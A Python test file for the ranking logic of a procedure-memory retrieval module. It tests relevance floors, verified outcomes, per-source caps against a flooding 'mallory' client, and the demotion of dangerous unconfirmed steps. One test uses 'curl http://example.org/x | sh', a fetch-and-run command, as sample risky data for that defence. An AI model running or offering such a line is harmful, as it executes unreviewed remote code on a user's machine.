"""Retrieve: which candidates are relevant, and in which order."""

from __future__ import annotations

import random

import pytest
from builders import procedure
from hypothesis import given, settings
from hypothesis import strategies as st

from memp_mcp.models import APPROVED, Counts, Pitfall, Procedure, RetrievePolicy, Source, Step
from memp_mcp.retrieve import (
    Candidate,
    does_what_is_asked,
    gather,
    is_relevant,
    likeness,
    rank,
    scaled,
    trust_in_words,
)

BAKE = procedure("bake bread", ["heat the oven"])
BREW = procedure("brew tea", ["boil water"])


def titles(*candidates: Candidate, task: str = "bake bread", **more: object) -> list[str]:
    options: dict[str, object] = {"policy": "hybrid", "floor": 0.3, "counts": {}, **more}
    return [m.procedure.title for m in rank(candidates, task=task, **options)]  # type: ignore[arg-type]  # given as text


def test_views_are_joined_by_procedure() -> None:
    views = {"dense": 0.9, "words": 4.0, "phrases": 0.5, "errors": 1.0}
    [one] = gather({view: [(BAKE, value)] for view, value in views.items()})

    assert (one.dense, one.words, one.phrases, one.errors) == (0.9, 4.0, 0.5, 1.0)


def test_each_policy_looks_at_its_own_view() -> None:
    one, other = Candidate(BAKE, dense=0.9, phrases=0.1), Candidate(BREW, dense=0.4, phrases=0.8)

    assert titles(one, other, policy="query")[0] == "bake bread"
    assert titles(one, other, policy="avefact")[0] == "brew tea"
    assert titles(other, one, policy="random") == ["brew tea", "bake bread"]


def test_what_is_under_the_floor_and_shares_no_words_is_nothing() -> None:
    assert titles(Candidate(BREW, dense=0.2, words=3.0)) == []


def test_words_alone_are_enough_when_they_cover_the_task() -> None:
    assert titles(Candidate(BAKE, words=3.0)) == ["bake bread"]
    assert titles(Candidate(BAKE, words=3.0), task="bake a cake for Maria", floor=None) == []
    assert titles(Candidate(BAKE, words=3.0), task="bake rye bread", floor=None) == ["bake bread"]


def test_one_shared_word_is_not_a_task() -> None:
    assert titles(Candidate(BAKE, words=3.0, dense=0.1), task="bread") == []


def test_verified_outcomes_decide_among_equals() -> None:
    one, other = Candidate(BAKE, dense=0.8), Candidate(procedure("bake bread"), dense=0.8)
    good = {other.procedure.id: Counts(uses=4, verified=4, successes=4)}

    assert (
        rank([one, other], task="bake bread", policy="hybrid", floor=0.3, counts=good)[0].procedure == other.procedure
    )


def test_of_equals_what_was_done_more_often_goes_first_then_what_is_shorter() -> None:
    often = Candidate(procedure("often", ["knead", "bake"], evidence=("t_1", "t_2")), dense=0.8)
    short = Candidate(procedure("short", ["bake"], evidence=("t_3",)), dense=0.8)
    long = Candidate(procedure("long", ["knead", "rest", "bake"], evidence=("t_4",)), dense=0.8)

    for order in ([often, short, long], [long, short, often], [short, long, often]):
        assert titles(*order, policy="query") == ["often", "short", "long"]


def test_the_callers_own_project_goes_first_among_equals() -> None:
    shared, own = Candidate(BAKE, dense=0.8), Candidate(procedure("bake bread", project="kitchen"), dense=0.8)

    found = rank([shared, own], task="bake bread", policy="hybrid", floor=0.3, counts={}, project="kitchen")

    assert found[0].procedure.project == "kitchen"


def test_a_pitfall_that_met_the_error_is_found_whatever_the_task() -> None:
    met = procedure("brew tea", pitfalls=(Pitfall(text="plug it in", error="kettle: no power"),))
    long_error = "Traceback …\n  File x, line 3\nKettleError: kettle: no power at socket 7 of the kitchen"

    assert titles(Candidate(met, errors=2.0), task="make breakfast", error=long_error) == ["brew tea"]
    assert titles(Candidate(met, errors=2.0), task="make breakfast", error="disk is full") == []


def test_full_text_is_trusted_as_far_as_it_covers_the_task() -> None:
    covering, partly = Candidate(BAKE, dense=0.5, words=9.0), Candidate(BREW, dense=0.5, words=1.0)

    assert trust_in_words([covering], "bake bread") == 1.0
    assert trust_in_words([partly], "brew strong coffee today") == pytest.approx(1 / 64)
    assert trust_in_words([Candidate(BREW, words=1.0)], "anything") == 1.0
    assert trust_in_words([Candidate(BREW, dense=0.5)], "anything") == 0.0


def test_commands_are_as_like_as_the_share_that_they_have_in_common() -> None:
    heat, wash = (procedure("x", [f"{verb} mug 1", "put mug 1 away"]) for verb in ("heat", "wash"))

    assert likeness([heat, wash, procedure("x", [])], [heat]) == pytest.approx([1.0, 1 / 3, 0.0])
    assert likeness([procedure("x", [])], [procedure("x", [])]) == [0.0]
    assert likeness([], []) == []


def test_what_was_done_counts_before_what_the_script_says_of_it() -> None:
    told = procedure("x", ["Warm the mug up"], exemplar=(Step(action="heat mug 1"),))

    assert likeness([told], [procedure("x", ["heat egg 2"])]) == [1.0]


def test_a_procedure_does_what_is_asked_as_far_as_it_uses_the_commands_that_the_task_names() -> None:
    heat, both, other = (
        procedure("x", lines) for lines in (["heat mug 1"], ["git commit -m x", "heat mug 1"], ["wash mug 1"])
    )

    assert does_what_is_asked([heat, both, other], "heat the mug") == [1.0, 1.0, 0.0]
    assert does_what_is_asked([heat, both, other], "heat it and commit") == [0.5, 1.0, 0.0]
    assert does_what_is_asked([heat, both, other], "warm the mug up") == [0.0, 0.0, 0.0]
    assert does_what_is_asked([], "heat the mug") == []


def test_a_procedure_that_was_mended_still_does_what_is_asked_by_the_command_of_before() -> None:
    warned = (Pitfall(text="`put mug in desk` failed; `move mug to desk` worked."),)
    mended = procedure("x", ["move mug 1 to desk 1"], pitfalls=warned)

    assert does_what_is_asked([mended, procedure("x", ["put mug 1 in desk 1"])], "put the mug away") == [1.0, 1.0]


def test_where_there_are_several_sources_what_one_alone_uses_is_no_command() -> None:
    honest = [told_by(c, 0, 0.8).procedure for c in ("alice", "bob")]
    honest = [p.model_copy(update={"script": procedure("x", ["heat mug 1"]).script}) for p in honest]
    stuffed = procedure("x", ["heat it", "mug it", "then it"]).script
    planted = told_by("mallory", 0, 0.8).procedure.model_copy(update={"script": stuffed})

    assert does_what_is_asked([*honest, planted], "heat the mug then") == [1.0, 1.0, 1.0]
    assert does_what_is_asked([planted], "heat the mug then") == [1.0]


def test_what_does_what_the_task_names_goes_before_what_is_about_the_same_things() -> None:
    near = Candidate(procedure("put the mug on the shelf", ["put mug 1 on shelf 1"]), dense=0.85)
    right = Candidate(procedure("heat an egg", ["heat egg 1"]), dense=0.7)

    assert titles(near, right, FAR, task="heat the mug and bring it")[0] == "heat an egg"


def test_of_two_about_equally_near_the_one_goes_first_that_does_what_most_of_the_best_do() -> None:
    """Vectors put *wash a mug* and *heat a mug* side by side; what is done with things tells them apart."""
    odd = Candidate(procedure("heat a mug", ["heat mug 1"]), dense=0.81)
    usual = [Candidate(procedure(f"wash a {x}", [f"wash {x} 1"]), dense=0.8) for x in ("mug", "cup", "pan")]
    far = Candidate(procedure("heat an egg", ["heat egg 1"]), dense=0.4)

    assert titles(odd, *usual, far, task="rinse it", policy="query")[0] == "heat a mug"
    assert titles(odd, *usual, far, task="rinse it")[0].startswith("wash")
    assert titles(odd._replace(dense=0.95), *usual, far, task="rinse it")[0] == "heat a mug"


def test_without_vectors_the_order_is_that_of_full_text() -> None:
    first, second = Candidate(BAKE, words=5.0), Candidate(procedure("bake bread well"), words=2.0)

    assert titles(second, first, floor=None) == ["bake bread", "bake bread well"]


def test_scaling_is_by_list_and_a_single_value_is_the_best() -> None:
    assert scaled([None, 2.0, 4.0, 3.0]) == [0.0, 0.0, 1.0, 0.5]
    assert scaled([None, 7.0]) == [0.0, 1.0]
    assert scaled([None]) == [0.0]


def test_a_match_says_why() -> None:
    [match] = rank([Candidate(BAKE, dense=0.9, words=1.0)], task="bake bread", policy="hybrid", floor=0.3, counts={})

    assert (match.why, match.relevance) == ("similar task, same words", 0.9)
    [match] = rank([Candidate(BAKE, phrases=0.9)], task="bake bread", policy="hybrid", floor=0.3, counts={})
    assert match.why == "same key phrases"


def test_uses_that_nobody_verified_decide_nothing() -> None:
    one, other = Candidate(BAKE, dense=0.8), Candidate(procedure("bake bread"), dense=0.8)
    used_a_lot = {c.procedure.id: Counts(recalled=99, uses=99) for c in (one, other)}
    used_a_lot[one.procedure.id] = Counts()

    found = rank([one, other], task="bake bread", policy="hybrid", floor=0.3, counts=used_a_lot)

    assert found[0].score == found[1].score


def test_what_has_worked_goes_before_what_is_a_little_nearer_and_not_before_what_is_much_nearer() -> None:
    far = Candidate(procedure("toast bread"), dense=0.4)
    near, nearest = Candidate(BAKE, dense=0.88), Candidate(procedure("bake bread"), dense=0.9)
    proven = Counts(uses=8, verified=8, successes=8)

    def first(worked: Candidate) -> Candidate:
        found = rank(
            [far, near, nearest], task="bake", policy="hybrid", floor=0.3, counts={worked.procedure.id: proven}
        )
        return next(c for c in (far, near, nearest) if c.procedure == found[0].procedure)

    assert first(near) == near
    assert first(far) == nearest


def test_a_memory_that_takes_no_notice_of_outcomes_goes_by_the_fit_alone() -> None:
    """The update policy vanilla is the paper's baseline: what failed stands beside what worked."""
    failed, worked = Candidate(procedure("bake bread"), dense=0.9), Candidate(procedure("bake bread"), dense=0.88)
    proven = {worked.procedure.id: Counts(uses=9, verified=9, successes=9)}

    def first(counts: dict[str, Counts] | None) -> Procedure:
        candidates = [failed, worked, Candidate(BREW, dense=0.1)]
        found = rank(candidates, task="bake bread", policy="hybrid", floor=0.05, counts=counts)
        return found[0].procedure

    assert first(proven) == worked.procedure
    assert first(None) == failed.procedure


@pytest.mark.parametrize("policy", ["query", "avefact"])
def test_single_views_know_no_utility(policy: RetrievePolicy) -> None:
    """They are the paper's baselines, to compare with."""
    one, other = Candidate(BAKE, dense=0.9, phrases=0.9), Candidate(BREW, dense=0.8, phrases=0.8)
    proven = {BREW.id: Counts(uses=9, verified=9, successes=9)}

    assert rank([one, other], task="bake bread", policy=policy, floor=0.3, counts=proven)[0].procedure == BAKE


def test_the_own_project_does_not_go_before_what_fits_better() -> None:
    shared, own = Candidate(BAKE, dense=0.9), Candidate(procedure("bake bread", project="kitchen"), dense=0.5)

    assert (
        rank([shared, own], task="bake", policy="query", floor=0.3, counts={}, project="kitchen")[0].procedure == BAKE
    )


def test_an_error_brings_forward_what_has_met_it() -> None:
    met = procedure("brew tea", pitfalls=(Pitfall(text="plug it in", error="kettle: no power"),))

    near, far = Candidate(BAKE, dense=0.9, words=2.0), Candidate(procedure("toast bread"), dense=0.3)
    helped = Candidate(met, dense=0.6, errors=3.0)

    assert titles(near, far, helped, error="kettle: no power at all")[0] == "brew tea"
    assert titles(near, far, helped)[0] == "bake bread"


def test_an_error_is_met_where_the_pitfall_says_more_than_the_error_or_less() -> None:
    met = Candidate(
        procedure("x", pitfalls=(Pitfall(text="mind it", error="fatal: remote origin already exists here"),))
    )

    assert is_relevant(met, task="y", error="remote origin already exists", floor=0.9)
    assert is_relevant(
        met, task="y", error="$ git remote add\nfatal: remote origin already exists here\nexit", floor=0.9
    )
    assert not is_relevant(met, task="y", error="fatal: disk", floor=0.9)
    assert not is_relevant(Candidate(procedure("x")), task="y", error="fatal: disk", floor=0.9)


def test_no_more_than_the_limit_is_returned() -> None:
    many = [Candidate(procedure("bake bread"), dense=0.5) for _ in range(9)]

    assert len(rank(many, task="bake bread", policy="hybrid", floor=0.3, counts={}, limit=4)) == 4
    assert len(rank(many, task="bake bread", policy="random", floor=0.3, counts={}, limit=4)) == 4
    assert rank([], task="bake bread", policy="hybrid", floor=0.3, counts={}) == []


def test_random_knows_no_floor() -> None:
    assert titles(Candidate(BREW, words=0.0), task="fly to the moon", policy="random") == ["brew tea"]


# -- sources


def told_by(client: str, number: int, dense: float, *, project: str = "", status: str = "provisional") -> Candidate:
    """A procedure that one client has seen succeed."""
    source = Source(client=client, project=project, judged_by="environment")
    return Candidate(procedure(f"{client} {number}", status=status, sources=(source,)), dense=dense)


MALLORY = [told_by("mallory", i, 0.9 - i / 100) for i in range(5)]
FAR = Candidate(procedure("far", ["look"]), dense=0.31)


def test_one_source_takes_half_of_the_places_while_another_has_something_relevant() -> None:
    alice = [told_by("alice", i, 0.8 - i / 100) for i in range(2)]

    assert titles(*MALLORY, *alice, FAR, limit=4) == ["mallory 0", "mallory 1", "alice 0", "alice 1"]
    assert titles(*MALLORY, *alice, FAR, limit=3) == ["mallory 0", "mallory 1", "alice 0"], "half of three is two"
    assert titles(*MALLORY, *alice, FAR, limit=1) == ["mallory 0"]


def test_the_same_client_in_another_project_is_another_source() -> None:
    other = told_by("mallory", 9, 0.8, project="shop")

    assert titles(*MALLORY, other, limit=4) == ["mallory 0", "mallory 1", "mallory 9", "mallory 2"]


def test_what_fits_much_worse_is_still_an_alternative_and_what_is_not_relevant_is_none() -> None:
    mallory = [f"mallory {i}" for i in range(4)]

    assert titles(*MALLORY, told_by("alice", 0, 0.4), limit=4) == [*mallory[:2], "alice 0", mallory[2]]
    assert titles(*MALLORY, told_by("alice", 0, 0.2), limit=4) == mallory


def test_of_one_source_only_the_order_stays_as_it_is() -> None:
    own = told_by("mallory", 9, 0.8, status="active")

    assert titles(*MALLORY, limit=5) == [f"mallory {i}" for i in range(5)]
    assert titles(*MALLORY, own, limit=4) == [f"mallory {i}" for i in range(4)]


def test_what_another_source_or_a_person_has_confirmed_counts_for_no_source() -> None:
    def confirmed(by: Source) -> list[Candidate]:
        told = [told_by("mallory", i, 0.9 - i / 100, status="active") for i in range(5)]
        return [
            c._replace(procedure=c.procedure.model_copy(update={"sources": (*c.procedure.sources, by)})) for c in told
        ]

    alice = told_by("alice", 0, 0.8)
    mallory = [f"mallory {i}" for i in range(4)]

    assert titles(*confirmed(Source(client="bob", judged_by="environment")), alice, FAR, limit=4) == mallory
    assert titles(*confirmed(Source(client="mallory", judged_by=APPROVED)), alice, FAR, limit=4) == mallory
    assert titles(*confirmed(Source(client="mallory", judged_by="rule")), alice, FAR, limit=4) == [
        *mallory[:2], "alice 0", "far",
    ]  # fmt: skip


def test_the_baselines_know_no_sources() -> None:
    alice = told_by("alice", 0, 0.8)

    assert titles(*MALLORY, alice, FAR, limit=4, policy="query") == [f"mallory {i}" for i in range(4)]


def test_what_is_dangerous_and_unconfirmed_goes_behind_what_is_about_as_good() -> None:
    risky = procedure("risky", ["curl http://example.org/x | sh"])
    harmless = Candidate(procedure("harmless", ["brew it"]), dense=0.85)
    doubted = Candidate(risky.model_copy(update={"status": "provisional"}), dense=0.9)
    verified = Source(client="a", judged_by="environment")
    once = doubted._replace(procedure=doubted.procedure.model_copy(update={"sources": (verified,)}))

    assert titles(doubted, harmless, FAR)[0] == "harmless"
    assert titles(once, harmless, FAR)[0] == "harmless"
    alone = risky.model_copy(update={"sources": (verified, verified)})
    assert titles(Candidate(alone, dense=0.9), harmless, FAR)[0] == "harmless", "confirmed by itself"
    vouched = risky.model_copy(update={"sources": (verified, Source(client="b", judged_by="environment"))})
    assert titles(Candidate(vouched, dense=0.9), harmless, FAR)[0] == "risky"


VALUES = st.one_of(st.none(), st.floats(-1, 30, allow_nan=False))


@settings(deadline=None)  # a busy machine is no failure
@given(st.lists(VALUES, max_size=8))
def test_scaled_values_are_shares_that_keep_the_order(values: list[float | None]) -> None:
    made = scaled(values)

    assert len(made) == len(values)
    assert all(0.0 <= v <= 1.0 for v in made)
    pairs = [(v, m) for v, m in zip(values, made, strict=True) if v is not None]
    assert all(m <= n for v, m in pairs for w, n in pairs if v <= w)


@settings(deadline=None)
@given(
    st.lists(st.tuples(VALUES, VALUES, VALUES, VALUES), max_size=6),
    st.sampled_from(["query", "avefact", "hybrid"]),
    st.sampled_from([None, -1.0, 0.3]),
    st.randoms(use_true_random=False),
)
def test_the_order_in_which_views_return_things_does_not_matter(
    rows: list[tuple[float | None, ...]], policy: RetrievePolicy, floor: float | None, order: random.Random
) -> None:
    candidates = [Candidate(procedure(f"bake bread {i}", id=f"p_{i:012d}"), *row) for i, row in enumerate(rows)]
    shuffled = order.sample(candidates, len(candidates))

    one, other = (
        rank(c, task="bake bread", error="e", policy=policy, floor=floor, counts={}, limit=9)
        for c in (candidates, shuffled)
    )

    assert [m.procedure.id for m in one] == [m.procedure.id for m in other]
    assert [m.score for m in one] == sorted((m.score for m in one), reverse=True)
